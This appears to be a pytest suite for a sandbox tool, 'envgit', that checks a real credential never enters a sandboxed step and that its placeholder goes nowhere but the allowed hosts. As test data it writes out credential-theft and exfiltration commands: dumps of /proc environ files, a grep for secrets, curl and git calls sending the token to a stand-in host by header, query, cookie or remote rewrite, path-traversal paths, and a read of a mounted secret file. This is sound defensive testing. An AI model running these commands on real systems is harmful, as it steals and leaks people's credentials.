"""Issue 13: a credential's real value never enters the sandbox, and its placeholder goes
nowhere but the credential's hosts. The canary is the real token: it is only in the
environment of the person's `envgit run` (the daemon reads it there). The oracle is the
canary (anywhere a step can read, anywhere records are kept) and the stub server's record of
what reached it: the placeholder sent to it by header, query, Basic or a rewritten git remote
must not reach it at all, and the step must be marked credential-misuse. The gate's tests run
as root (its judgement does not depend on the uid); the credential's source file, which DAC
may let a non-root user read, is tried as an unprivileged user too."""

import json
import os
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest

from conftest import CANARY
from gatekit import Answerer, hostport, netproject, servers, trust_policy
from harness import every_case

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


def _who(method, path, headers, body):
    if "authorization" not in headers:           # git offers credentials only after a 401
        return 401, {"WWW-Authenticate": 'Basic realm="stub"', "Content-Type": "text/plain"}, b"who\n"
    return 200, {"Content-Type": "text/plain"}, b"ok\n"


def setup(attacker, git, stub, tail=""):
    attacker.env["MY_TOKEN"] = CANARY                # the person's token, outside only
    netproject(attacker, git, stub,
               "irreversible:\n  - preset: default\n" + tail +
               f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hostport(git)}\"]\n")
    return f"https://{hostport(stub, 'stub.example.test')}"


def leaked(srv, needle):
    """The requests of `srv` (a server, or a list of its requests) that hold `needle`."""
    return [q for q in getattr(srv, "requests", srv)
            if needle in json.dumps({k: v for k, v in q.items() if k != "body"}) or
            needle.encode() in q["body"]]


def last_step(attacker):
    return json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]


def test_the_real_token_is_nowhere_inside(attacker):
    with servers(_who) as (git, stub):
        setup(attacker, git, stub)
        hp = hostport(git)
        r = attacker.run(
            "env; tr '\\0' '\\n' < /proc/self/environ; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; "
            "git config -l; "
            f"printf 'protocol=https\\nhost={hp}\\n\\n' | git credential fill; "
            f"grep -rsaF {CANARY} $HOME /tmp /run /etc 2>/dev/null; echo done")
        assert "done" in r.stdout, r.stderr
        assert CANARY not in r.stdout + r.stderr
        assert "MY_TOKEN=" in r.stdout                # the placeholder is there, under its name
        # the swap works: a request to the credential's host carries the real token, server side
        r = attacker.run(f"curl -s -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $MY_TOKEN\" "
                         f"{git.url}/info/refs?service=git-upload-pack")
        assert r.stdout.strip() == "200", r.stdout + r.stderr
        assert leaked(git, f"Bearer {CANARY}")
        assert not leaked(stub, CANARY)


SENT_ELSEWHERE = [
    "curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" {url}/",
    "curl -s -o /dev/null -H \"Authorization: token $MY_TOKEN\" {url}/",
    "curl -s -o /dev/null \"{url}/x?access_token=$MY_TOKEN\"",
    "curl -s -o /dev/null \"{url}/x?t=$(printf %s \"$MY_TOKEN\" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g')\"",
    "curl -s -o /dev/null -u \"me:$MY_TOKEN\" {url}/",
    "curl -s -o /dev/null -H \"Cookie: s=$MY_TOKEN\" {url}/",
    "curl -s -o /dev/null -X POST --data \"token=$MY_TOKEN\" {url}/",
    "git ls-remote \"https://me:$MY_TOKEN@{hp}/repo.git\"",
    "git -c 'credential.helper=!f() {{ echo username=me; echo password=$MY_TOKEN; }}; f' ls-remote {url}/repo.git",
    "git -c 'url.{url}/.insteadOf={git}/' -c 'credential.{url}.helper=!f() {{ echo username=me; "
    "echo password=$MY_TOKEN; }}; f' ls-remote {git}/repo.git",
]


def test_the_placeholder_sent_elsewhere_is_denied_and_marked(attacker):
    """Every way of sending it its own step, in one project and gate; each is judged on the
    requests that reached the stub during its own step."""
    with servers(_who) as (git, stub):
        url = setup(attacker, git, stub)

        def check(how):
            ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
            assert ph and ph != CANARY
            n = len(stub.requests)
            attacker.run(how.format(url=url, hp=hostport(stub, "stub.example.test"), git=git.url))
            got = stub.requests[n:]
            assert not leaked(got, ph) and not leaked(got, CANARY), got
            assert not [q for q in got if "authorization" in q["headers"]], got
            s = last_step(attacker)
            assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
            bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
            assert bad[0]["credential"] == "tok" and bad[0]["host"] == "stub.example.test"

        every_case(SENT_ELSEWHERE, check)


def test_never_swapped_where_a_server_could_echo_it_back(attacker):
    """On the credential's own host the real value goes only where a token goes (the
    Authorization header, a token-named query parameter); a body, a search-like query and a
    cookie keep the placeholder, so a server that stores or echoes them (a gist, a search
    page) cannot hand the real value back to the step."""
    with servers(_who) as (git, stub):
        setup(attacker, git, stub)
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" "
                     f"-H \"Cookie: c=$MY_TOKEN\" -H \"X-Note: see $MY_TOKEN\" --data \"gist=$MY_TOKEN\" "
                     f"\"{git.url}/info/refs?q=$MY_TOKEN&access_token=$MY_TOKEN\"")
        got = [q for q in git.requests if "access_token" in q["path"]]
        assert got, git.requests
        q = got[0]
        assert q["headers"]["authorization"] == f"Bearer {CANARY}"
        assert f"access_token={CANARY}" in q["path"] and f"q={ph}" in q["path"]
        assert CANARY.encode() not in q["body"] and ph.encode() in q["body"]
        assert q["headers"]["cookie"] == f"c={ph}" and q["headers"]["x-note"] == f"see {ph}"


def test_an_approval_never_widens_a_credential(attacker):
    """The second host's requests are asked about, and the person approves everything (also
    the whole rule): the placeholder still never reaches it, and nobody is asked about it."""
    with servers(_who) as (git, stub):
        url = setup(attacker, git, stub,
                    "  - net: { host: stub.example.test, method: \"*\" }\n    action: ask\n")
        with Answerer(attacker, lambda q: "approve") as person:
            attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" {url}/")
        assert not stub.requests
        assert not person.seen
        assert "credential-misuse" in last_step(attacker)["marks"]


def test_outside_the_credential_paths_is_misuse(attacker):
    """Every path its own step, in one project and gate, judged on what reached the git server
    during it."""
    with servers(_who) as (git, stub):
        setup(attacker, git, stub)
        text = (attacker.root / "envgit.yaml").read_text() + "    paths: [\"/repo.git/**\"]\n"
        attacker.write_policy(text)
        trust_policy(attacker)                  # the narrowed credential, approved again

        def check(path):
            n = len(git.requests)
            attacker.run(f"curl -s --path-as-is -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" "
                         f"{git.url_for()}{path}")
            assert not leaked(git.requests[n:], CANARY), git.requests[n:]
            assert "credential-misuse" in last_step(attacker)["marks"]

        every_case(["/other", "/repo.git/../other", "/repo.git/%2e%2e/other", "/repo.git/%252e%252e/other"],
                   check)


def test_never_over_plain_http(attacker):
    """The credential's own host, over plain HTTP: the real value would cross in the clear."""
    with servers(_who) as (git, stub):
        setup(attacker, git, stub)
        attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" "
                     f"http://{hostport(git)}/repo.git/info/refs")
        assert not leaked(git, CANARY)
        s = last_step(attacker)
        assert "credential-misuse" in s["marks"], s["requests"]


def test_no_record_holds_the_real_token(attacker):
    with servers(_who) as (git, stub):
        url = setup(attacker, git, stub)
        attacker.run(f"curl -s -H \"Authorization: Bearer $MY_TOKEN\" {git.url}/info/refs?x=$MY_TOKEN; "
                     f"curl -s -u \"me:$MY_TOKEN\" {url}/; echo $MY_TOKEN >&2")
        assert leaked(git, CANARY)                    # it did go where it may
        outs = [attacker.envgit(*a).stdout for a in (("log", "--json"), ("show", "--json"),
                                                     ("show",), ("policy", "show"), ("doctor",))]
        assert not [o for o in outs if CANARY in o]
        r = subprocess.run(["grep", "-rlaF", CANARY, str(attacker.root / ".envgit")],
                           capture_output=True, text=True)
        assert r.stdout == "", r.stdout               # journal, snapshots, daemon log


# --- a credential's `file:` source ----------------------------------------------------------

@pytest.fixture
def token_file():
    d = Path("/opt") / f"envgit-token-file-{uuid.uuid4().hex[:8]}"
    d.mkdir()
    os.chmod(d, 0o755)
    (d / "token").write_text(CANARY + "\n")
    os.chmod(d / "token", 0o444)            # as Docker mounts a secret
    try:
        yield d / "token"
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.mark.both_uids("the token file is readable by others (0444): a root step's view masks only what others cannot "
                       "read, and a non-root user reads it by DAC: the view must hide it from both")
def test_a_credentials_source_file_is_not_readable_inside(attacker, token_file):
    """The red team's case (round 13b): the daemon reads the real value from the file the
    policy names (`from: {file: ...}`); the sandbox's system view is masked only where others
    cannot read (as root) and by the default deny list. A token file outside the home that
    others can read (Docker's and Compose's secrets in /run/secrets are 0444, Kubernetes'
    service-account token 0644, a team's /opt/<app>/token, /etc/<tool>/token) was there in the
    step, though envgit knows its path (`envgit doctor` says "resolves") and promises the real
    value is never in a step's files. The oracle is the canary (the file's content) in the
    step's output."""
    with servers() as (git, stub):
        api = hostport(stub, "api.github.com")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ file: {token_file} }}\n    hosts: [\"{api}\"]\n")
        r = attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $GITHUB_TOKEN\" https://{api}/; "
                         f"cat {token_file}; echo done")
        assert "done" in r.stdout, r.stdout + r.stderr
        assert [q for q in stub.requests if q["headers"].get("authorization") == f"Bearer {CANARY}"], \
            "the swap did not happen"
        assert CANARY not in r.stdout + r.stderr, \
            f"the credential's source file {token_file} is readable inside the step"
